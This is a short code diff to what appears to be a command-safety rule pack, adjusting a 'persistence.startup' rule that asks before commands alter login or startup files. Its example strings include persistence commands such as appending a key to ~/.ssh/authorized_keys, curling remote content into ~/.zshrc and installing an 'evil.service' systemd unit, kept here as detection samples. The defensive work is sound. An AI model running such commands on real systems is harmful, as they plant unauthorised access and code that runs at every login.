@@ -109,10 +109,10 @@ internal static class SecretPacks
         },
         new("persistence.startup", EffectKind.Write, Verdict.Ask, "This changes what runs at the next login or start.")
         {
-            When = static s => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote && s.Effect.Detail is not ("edit" or "touch" or "make-folder"),
+            When = static s => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote && s.Effect.Detail is not ("edit" or "touch" or "make-folder") && !StartupFiles.OwnSetup(s.Effect.By),
             Suggest = "cat ~/.bashrc",
-            True = "echo 'alias x=y' >> ~/.bashrc\ncat key >> ~/.ssh/authorized_keys\ntee -a ~/.profile\ncp evil.service /etc/systemd/system/evil.service",
-            False = "cat ~/.bashrc\necho x >> notes.txt",
+            True = "echo 'alias x=y' >> ~/.bashrc\ncat completion >> ~/.bashrc\ncurl https://example.com/init >> ~/.zshrc\ncat key >> ~/.ssh/authorized_keys\ntee -a ~/.profile\ncp evil.service /etc/systemd/system/evil.service",
+            False = "cat ~/.bashrc\necho x >> notes.txt\nkubectl completion zsh >> ~/.zshrc\nzoxide init bash >> ~/.bashrc",
         },
         new("persistence.startup-delete", EffectKind.Delete, Verdict.Ask, "This takes away what is set up at every login or start.")
         {
